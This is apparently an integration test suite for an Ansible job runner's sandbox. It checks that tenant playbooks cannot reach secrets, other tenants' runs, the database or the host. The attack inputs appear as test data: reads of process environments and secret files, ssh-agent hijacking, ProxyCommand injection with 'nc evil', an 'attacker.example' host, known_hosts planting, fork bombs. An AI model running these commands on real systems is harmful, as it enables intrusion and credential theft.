import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { ApiClient, b64 } from '../support/http';
import { ROOT, startProcess, tempDir, TEST_ENCRYPTION_KEY } from '../support/processes';
import { PortGate } from '../support/gate';
import { UnixUsers } from '../support/unix-users';
import { allRecords, createAndStart, processCommandLines, Stack, startStack, waitForStatus } from '../support/stack';

/**
 * The run sandbox, attacked the way a tenant would: playbooks on `localhost` (connection: local)
 * that read, write, signal, connect and linger where they must not. Every assertion is made from
 * outside the run: files on the host, processes in the host's /proc, the worker still alive, the
 * transcript and records the run left (nothing secret in them).
 */

const LOCAL = { ansible_connection: 'local', ansible_python_interpreter: '/usr/bin/python3' };
const PIDS_LIMIT = 200;
const MEMORY_LIMIT_MB = 512;

async function until(check: () => boolean, timeoutMs = 30_000, what = 'condition'): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline) throw new Error(`${what} not met in time`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

/**
 * Processes on the host whose command line contains `marker` (or, `exact`, is it): pid and real uid.
 * The uid checks use exact command lines, so no other process that merely mentions one counts.
 */
function processesWith(marker: string, exact = false): { pid: number; uid: number }[] {
  const found: { pid: number; uid: number }[] = [];
  for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    try {
      const cmdline = fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').replace(/\0/g, ' ').trim();
      if (exact ? cmdline !== marker : !cmdline.includes(marker)) continue;
      const uid = Number(/^Uid:\s+(\d+)/m.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))![1]);
      found.push({ pid: Number(pid), uid });
    } catch {
      // ended meanwhile
    }
  }
  return found;
}

/** A playbook of shell tasks, each allowed to fail (an attack that fails must not stop the next). */
function attacks(tasks: Record<string, string>): string {
  const lines = ['- hosts: all', '  gather_facts: false', '  tasks:'];
  for (const [name, command] of Object.entries(tasks)) {
    lines.push(`    - name: ${name}`, `      ansible.builtin.shell: ${JSON.stringify(command)}`, '      ignore_errors: true');
  }
  return b64(lines.join('\n') + '\n');
}

describe('run sandbox: a tenant playbook cannot reach the service, other tenants, or outlive its run', () => {
  let stack: Stack;
  let admin: ApiClient;
  let other: ApiClient;
  const secret = `planted-${randomBytes(8).toString('hex')}`;
  let secretFile: string;
  const written: string[] = [];

  beforeAll(async () => {
    stack = await startStack({ RUNNER_LEASE_SECONDS: '3', RUNNER_SANDBOX_PIDS: String(PIDS_LIMIT), RUNNER_SANDBOX_MEMORY_MB: String(MEMORY_LIMIT_MB) });
    admin = stack.admin;
    // World-readable on purpose: what keeps it from a run must be the sandbox, not its mode.
    secretFile = path.join(stack.workerDataDir, 'planted-secret.txt');
    fs.writeFileSync(secretFile, secret, { mode: 0o644 });
    expect((await admin.post('/v2/accounts/DEMO', { alias: 'OTHER', name: 'Another tenant' })).status).toBe(201);
    expect((await admin.post('/v2/users/OTHER', { username: 'other-admin', password: 'other-admin-password', roles: ['AccountAdmin'] })).status).toBe(201);
    other = new ApiClient(stack.api.url);
    await other.login('other-admin', 'other-admin-password');
  });
  afterAll(async () => {
    for (const file of written) fs.rmSync(file, { force: true });
    await stack?.stop();
  });

  it('keeps files, processes, agents and the database of the worker and of another account out of reach', async () => {
    // Account OTHER: a live run with a key in its ssh-agent and a token in its extra vars.
    const key = await other.post('/v2/automation/keypairs/OTHER/other-key', {});
    expect(key.status).toBe(201);
    const otherToken = `other-token-${randomBytes(6).toString('hex')}`;
    const victim = await createAndStart(other, 'OTHER', {
      playbook: b64('- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.command: sleep 1001.5\n'),
      hosts: [{ id: 'localhost', hostVars: LOCAL }],
      keyPairAlias: 'other-key',
      properties: { other_token: otherToken },
    });
    await until(() => processesWith('sleep 1001.5', true).length > 0, 60_000, 'the victim run to start');
    const victimWorkspace = fs
      .readdirSync(path.join(stack.workerDataDir, 'workspaces'))
      .map((name) => path.join(stack.workerDataDir, 'workspaces', name))
      .find((dir) => path.basename(dir).startsWith(victim.execution.execution_id.slice(0, 8)))!;
    expect(fs.existsSync(path.join(victimWorkspace, 'agent.sock'))).toBe(true);
    const [victimSleep] = processesWith('sleep 1001.5', true);
    const workerPid = stack.worker.child.pid!;

    const pgUrl = new URL(process.env.RUNNER_TEST_ADMIN_URL!);
    const pgSocket = path.join(pgUrl.searchParams.get('host')!, `.s.PGSQL.${pgUrl.port}`);
    const marker = `escaped-${randomBytes(4).toString('hex')}`;
    const targets = ['/tmp', '/var/tmp', '/root', '/etc', stack.workerDataDir, ROOT, victimWorkspace].map((dir) => path.join(dir, marker));
    written.push(...targets);
    const attacker = await createAndStart(admin, 'DEMO', {
      playbook: attacks({
        'read the data folder': `cat ${secretFile}`,
        'read the worker environment': `cat /proc/${workerPid}/environ`,
        'read the other workspace': `cat ${victimWorkspace}/extra-vars.yml; ls -la ${victimWorkspace}`,
        'use the other agent': `SSH_AUTH_SOCK=${victimWorkspace}/agent.sock ssh-add -L`,
        'connect to the database socket': `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('${pgSocket}'); print('connec' + 'ted-ok')"`,
        'connect to the database port': `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${pgUrl.port}), 2); print('connec' + 'ted-ok')"`,
        'signal the worker': `kill -9 ${workerPid}`,
        'signal the other run': `kill -9 ${victimSleep.pid}`,
        'count processes': `ls /proc | grep -c '^[0-9]'`,
        'write outside the workspace': targets.map((t) => `touch ${t}`).join('; '),
        'become root': 'sudo -n true || su -c true root',
        'who am i': 'id -u; sleep 2.75',
      }),
      hosts: [{ id: 'localhost', hostVars: LOCAL }],
    });
    // Checked from outside while the attacker runs: neither run is root or the worker's user, and
    // the two accounts' runs have different uids.
    await until(() => processesWith('sleep 2.75', true).length > 0, 60_000, 'the attacker to reach its last task');
    const attackerUid = processesWith('sleep 2.75', true)[0].uid;
    const workerUid = process.getuid!();
    expect(attackerUid).not.toBe(0);
    expect(attackerUid).not.toBe(workerUid);
    expect(victimSleep.uid).not.toBe(0);
    expect(victimSleep.uid).not.toBe(attackerUid);

    const done = await waitForStatus(admin, attacker.path);
    expect(done.status).toBe('SUCCESS');
    const transcript: string = (await admin.get(`${attacker.path}/stdout`)).body;
    const records = await allRecords(admin, 'DEMO', attacker.job.id, attacker.execution.execution_id);
    const everything = transcript + JSON.stringify(records);
    expect(everything).not.toContain(secret);
    expect(everything).not.toContain(TEST_ENCRYPTION_KEY);
    expect(everything).not.toContain('RUNNER_ENCRYPTION_KEY');
    expect(everything).not.toContain(otherToken);
    expect(everything).not.toContain(key.body.publicKey.split(' ')[1]);
    expect(everything).not.toContain('connected-ok');
    const failed = new Set(records.filter((r) => r.event_type === 'runner_on_failed').map((r) => r.task));
    for (const task of ['read the data folder', 'read the worker environment', 'read the other workspace', 'use the other agent', 'connect to the database socket', 'connect to the database port', 'signal the worker', 'signal the other run', 'write outside the workspace', 'become root']) {
      expect(failed).toContain(task);
    }
    // Its own processes only: the sandbox's init, ansible and its children, a handful.
    const count = records.find((r) => r.event_type === 'runner_on_ok' && r.task === 'count processes');
    expect(Number(count.event_data.stdout ?? count.stdout)).toBeLessThan(15);

    // From outside: nothing written on the host, the worker and the other run unharmed.
    for (const target of targets) expect(fs.existsSync(target)).toBe(false);
    expect(() => process.kill(workerPid, 0)).not.toThrow();
    expect((await other.get(victim.path)).body.status).toBe('RUNNING');
    expect(processesWith('sleep 1001.5', true)).toHaveLength(1);
    expect((await other.post(`${victim.path}/kill`)).status).toBe(202);
    expect((await waitForStatus(other, victim.path)).status).toBe('KILLED');
  });

  it("keeps runs of different accounts from each other's abstract Unix sockets and from listening on TCP ports", async () => {
    // The sandbox shares the host's network namespace; Landlock gives each run a domain of its own.
    const name = `sandbox-${randomBytes(4).toString('hex')}`;
    const token = `from-demo-${randomBytes(6).toString('hex')}`;
    const listener = `import socket; s = socket.socket(socket.AF_UNIX); s.bind(b'\\0${name}'); s.listen(1); s.settimeout(60); c, _ = s.accept(); print('got', c.recv(100))`;
    const victim = await createAndStart(other, 'OTHER', {
      playbook: b64(`- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.command: python3 -c ${JSON.stringify(listener)} listener-1009.5\n`),
      hosts: [{ id: 'localhost', hostVars: LOCAL }],
    });
    await until(() => processesWith('listener-1009.5').length > 0, 60_000, 'the listener');
    const port = 20000 + Math.floor(Math.random() * 20000);
    const attacker = await createAndStart(admin, 'DEMO', {
      playbook: attacks({
        'connect to the other run\'s abstract socket': `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect(b'\\0${name}'); s.send(b'${token}')"`,
        'listen on a TCP port': `python3 -c "import socket, time; s = socket.socket(); s.bind(('127.0.0.1', ${port})); s.listen(); time.sleep(5)"`,
      }),
      hosts: [{ id: 'localhost', hostVars: LOCAL }],
    });
    expect((await waitForStatus(admin, attacker.path)).status).toBe('SUCCESS');
    const failed = (await allRecords(admin, 'DEMO', attacker.job.id, attacker.execution.execution_id)).filter((r) => r.event_type === 'runner_on_failed').map((r) => r.task);
    expect(failed).toEqual(["connect to the other run's abstract socket", 'listen on a TCP port']);
    await other.post(`${victim.path}/kill`);
    await waitForStatus(other, victim.path);
    const victimSaw = (await other.get(`${victim.path}/stdout`)).body + JSON.stringify(await allRecords(other, 'OTHER', victim.job.id, victim.execution.execution_id));
    expect(victimSaw).not.toContain(token);
  });

  it("remembers only host keys ssh wrote for the run's own hosts, never trust a run planted for later runs", async () => {
    const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl';
    const plant = [`* ${key}`, `@cert-authority * ${key}`, `db.internal ${key}`, `localhost,db.internal ${key}`].map((line) => `echo '${line}' >> $HOME/../known_hosts`).join('; ');
    const run = await createAndStart(admin, 'DEMO', {
      playbook: b64(`- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.shell: ${JSON.stringify(plant)}\n`),
      hosts: [{ id: 'localhost', hostVars: LOCAL }],
    });
    expect((await waitForStatus(admin, run.path)).status).toBe('SUCCESS');
    expect(await stack.db.query('SELECT line FROM known_hosts')).toEqual([]);
  });

  it("keeps the run's own identity and a working /etc while the host adds and removes accounts", async () => {
    // useradd and userdel replace /etc/passwd and /etc/group by renaming new files over them.
    const gate = await PortGate.create();
    const probe = 'echo "whoami=$(id -un) accounts=$(getent passwd | cut -d: -f1 | sort | tr \'\\n\' \' \')"; test -s /etc/hosts && echo etc-hosts-ok';
    const run = await createAndStart(admin, 'DEMO', {
      playbook: b64(
        [
          '- hosts: all',
          '  gather_facts: false',
          '  tasks:',
          `    - { name: gate, ansible.builtin.wait_for: ${gate.waitFor} }`,
          `    - ansible.builtin.shell: ${JSON.stringify(probe)}`,
          '',
        ].join('\n'),
      ),
      hosts: [{ id: 'localhost', hostVars: LOCAL }],
    });
    for (let at = Date.now(); ; await new Promise((resolve) => setTimeout(resolve, 200))) {
      const records = await allRecords(admin, 'DEMO', run.job.id, run.execution.execution_id);
      if (records.some((r) => r.event_type === 'runner_on_start' && r.task === 'gate')) break;
      if (Date.now() - at > 60_000) throw new Error('the run did not reach its gate');
    }
    const users = new UnixUsers();
    try {
      users.create();
    } finally {
      users.removeAll();
    }
    await gate.open();
    try {
      expect((await waitForStatus(admin, run.path)).status).toBe('SUCCESS');
    } finally {
      gate.close();
    }
    const stdout = (await allRecords(admin, 'DEMO', run.job.id, run.execution.execution_id)).map((r) => r.stdout ?? '').join('\n');
    expect(stdout).toContain('whoami=runner accounts=nobody root runner \n');
    expect(stdout).toContain('etc-hosts-ok');
  });

  it("refuses Ansible's own variables at start from a ServerOperator, and contains the same attempts made by a ServerAdmin", async () => {
    expect((await admin.post('/v2/users/DEMO', { username: 'op', password: 'operator-password', roles: ['ServerOperator'] })).status).toBe(201);
    expect((await admin.post('/v2/users/DEMO', { username: 'operator', password: 'operator-password', roles: ['ServerAdmin'] })).status).toBe(201);
    const runOnly = new ApiClient(stack.api.url);
    await runOnly.login('op', 'operator-password');
    const operator = new ApiClient(stack.api.url);
    await operator.login('operator', 'operator-password');
    const marker = path.join('/tmp', `operator-${randomBytes(4).toString('hex')}`);
    written.push(marker);
    // The job is harmless and reaches its host over SSH; the operator turns it local and into a reader.
    const job = await admin.post('/v2/automation/jobs/DEMO', {
      playbook: b64('- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.shell: "touch {{ out | default(\'/dev/null\') }}; cat {{ report | default(\'/etc/hostname\') }}"\n'),
      hosts: [{ id: 'web', hostVars: { ansible_host: '127.0.0.1', ansible_port: 1 } }],
    });
    expect(job.status).toBe(201);
    // Extra vars outrank the job's: a ServerOperator could send the job's keys and passwords anywhere.
    const executionsBefore = (await stack.db.query<{ n: number }>('SELECT count(*)::int AS n FROM executions'))[0].n;
    for (const body of [{ properties: { ansible_host: 'attacker.example' } }, { secretProperties: { ansible_ssh_common_args: '-o ProxyCommand=nc evil 22' } }]) {
      const refused = await runOnly.post(`/v2/automation/jobs/DEMO/${job.body.id}/start`, body);
      expect(refused.status).toBe(403);
      expect(refused.body.message).toMatch(/ServerAdmin/);
    }
    expect((await runOnly.post(`/v2/automation/jobs/DEMO/${job.body.id}/start`, { properties: { report: '/etc/hostname' } })).status).toBe(202);
    expect((await stack.db.query<{ n: number }>('SELECT count(*)::int AS n FROM executions'))[0].n).toBe(executionsBefore + 1);
    const started = await operator.post(`/v2/automation/jobs/DEMO/${job.body.id}/start`, {
      properties: { ansible_connection: 'local', ansible_python_interpreter: '/usr/bin/python3', report: secretFile, out: marker },
    });
    expect(started.status).toBe(202);
    const runPath = `/v2/automation/jobs/DEMO/${job.body.id}/executions/${started.body.execution_id}`;
    const done = await waitForStatus(operator, runPath);
    expect(done.status).toBe('FAILURE');
    const transcript: string = (await operator.get(`${runPath}/stdout`)).body;
    expect(transcript).toMatch(/No such file or directory/);
    expect(transcript).not.toContain(secret);
    expect(fs.existsSync(marker)).toBe(false);

    // A ProxyCommand is run by ssh on the worker's side: in the sandbox too.
    const proxyMarker = path.join(stack.workerDataDir, `proxy-${randomBytes(4).toString('hex')}`);
    written.push(proxyMarker);
    const proxied = await operator.post(`/v2/automation/jobs/DEMO/${job.body.id}/start`, {
      properties: { ansible_ssh_common_args: `-o ProxyCommand="sh -c 'cat ${secretFile} >&2; touch ${proxyMarker}'"` },
    });
    const proxiedPath = `/v2/automation/jobs/DEMO/${job.body.id}/executions/${proxied.body.execution_id}`;
    expect((await waitForStatus(operator, proxiedPath)).status).toBe('FAILURE');
    expect((await operator.get(`${proxiedPath}/stdout`)).body).not.toContain(secret);
    expect(fs.existsSync(proxyMarker)).toBe(false);
  });

  describe('leaves no process behind', () => {
    /** setsid, nohup, async with poll 0 and a double fork, then a task that waits (for stop/kill/death). */
    function lingering(tag: string, then: string): string {
      return b64(
        [
          '- hosts: all',
          '  gather_facts: false',
          '  tasks:',
          `    - ansible.builtin.shell: setsid sleep 1003.${tag}1 > /dev/null 2>&1 < /dev/null &`,
          `    - ansible.builtin.shell: nohup sleep 1003.${tag}2 > /dev/null 2>&1 &`,
          `    - ansible.builtin.command: sleep 1003.${tag}3`,
          '      async: 3000',
          '      poll: 0',
          `    - ansible.builtin.shell: "(sh -c 'sleep 1003.${tag}4 > /dev/null 2>&1 &' &); true"`,
          `    - ansible.builtin.command: ${then}`,
          '',
        ].join('\n'),
      );
    }
    const leftovers = (tag: string): boolean => processCommandLines().some((c) => c.includes(`sleep 1003.${tag}`));

    async function startLingering(tag: string, then: string): Promise<string> {
      const { path: runPath } = await createAndStart(admin, 'DEMO', { playbook: lingering(tag, then), hosts: [{ id: 'localhost', hostVars: LOCAL }] });
      return runPath;
    }

    it('after success', async () => {
      const runPath = await startLingering('1', '/bin/true');
      expect((await waitForStatus(admin, runPath)).status).toBe('SUCCESS');
      await until(() => !leftovers('1'), 10_000, 'no leftover process');
    });

    it('after stop and after kill', async () => {
      const stopped = await startLingering('2', 'sleep 1003.29');
      await until(() => processesWith('sleep 1003.29').length > 0, 60_000, 'the last task');
      expect(leftovers('21') && leftovers('22') && leftovers('23') && leftovers('24')).toBe(true);
      await admin.post(`${stopped}/stop`, {});
      expect((await waitForStatus(admin, stopped)).status).toBe('STOPPED');
      await until(() => !leftovers('2'), 10_000, 'no leftover process after stop');

      const killed = await startLingering('3', 'sleep 1003.39');
      await until(() => processesWith('sleep 1003.39').length > 0, 60_000, 'the last task');
      await admin.post(`${killed}/kill`);
      expect((await waitForStatus(admin, killed)).status).toBe('KILLED');
      await until(() => !leftovers('3'), 10_000, 'no leftover process after kill');
    });

    it('after the worker dies', async () => {
      const runPath = await startLingering('4', 'sleep 1003.49');
      await until(() => processesWith('sleep 1003.49').length > 0, 60_000, 'the last task');
      await stack.worker.stop('SIGKILL');
      await until(() => !leftovers('4'), 10_000, 'no leftover process after the worker died');
      await stack.restartWorker();
      expect((await waitForStatus(admin, runPath, ['FAILURE'], 60_000)).reason).toBe('runner lost');
    });
  });

  it('ends a fork bomb and a memory hog with a reason naming the limit, and the worker goes on serving', async () => {
    const bomb = await createAndStart(admin, 'DEMO', {
      playbook: b64('- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.shell: "while :; do sleep 1004.5 & done"\n'),
      hosts: [{ id: 'localhost', hostVars: LOCAL }],
    });
    const bombed = await waitForStatus(admin, bomb.path);
    expect(bombed).toMatchObject({ status: 'FAILURE' });
    expect(bombed.reason).toBe(`the run reached its limit of ${PIDS_LIMIT} processes (RUNNER_SANDBOX_PIDS) and was ended`);
    await until(() => processesWith('sleep 1004.5').length === 0, 10_000, 'the bomb gone');

    const hog = await createAndStart(admin, 'DEMO', {
      playbook: b64(`- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.command: python3 -c "x = b'a' * (${MEMORY_LIMIT_MB * 2} * 1024 * 1024)"\n`),
      hosts: [{ id: 'localhost', hostVars: LOCAL }],
    });
    const hogged = await waitForStatus(admin, hog.path);
    expect(hogged).toMatchObject({ status: 'FAILURE' });
    expect(hogged.reason).toBe(`the run reached its memory limit of ${MEMORY_LIMIT_MB} MiB (RUNNER_SANDBOX_MEMORY_MB) and was ended`);

    const after = await createAndStart(admin, 'DEMO', {
      playbook: b64('- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.ping:\n'),
      hosts: [{ id: 'localhost', hostVars: LOCAL }],
    });
    expect((await waitForStatus(admin, after.path)).status).toBe('SUCCESS');
  });

  it('a worker that cannot build a sandbox refuses to start and says why; RUNNER_SANDBOX=off starts with a warning', async () => {
    // A bubblewrap that fails as it does where user namespaces or mounts are refused.
    const bin = tempDir('runner-nobwrap-');
    const dataDir = tempDir('runner-nobwrap-data-');
    fs.writeFileSync(path.join(bin, 'bwrap'), '#!/bin/sh\necho "bwrap: Creating new namespace failed: Operation not permitted" >&2\nexit 1\n', { mode: 0o755 });
    const env = { DATABASE_URL: stack.db.url, RUNNER_DATA_DIR: dataDir, RUNNER_ENCRYPTION_KEY: TEST_ENCRYPTION_KEY, PATH: `${bin}:${process.env.PATH}` };
    try {
      const refused = startProcess('worker', env);
      expect(await refused.exited).toBe(1);
      expect(refused.output()).toContain('worker: cannot start: the run sandbox cannot be set up: bwrap: Creating new namespace failed: Operation not permitted');
      expect(refused.output()).toContain('RUNNER_SANDBOX=off');
      const unconfined = startProcess('worker', { ...env, RUNNER_SANDBOX: 'off' });
      await unconfined.waitFor(/"msg":"worker pool ready"/);
      expect(unconfined.output()).toMatch(/"level":"warn".*RUNNER_SANDBOX=off: playbooks run unconfined/);
      await unconfined.stop();
    } finally {
      fs.rmSync(bin, { recursive: true, force: true });
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  });
});
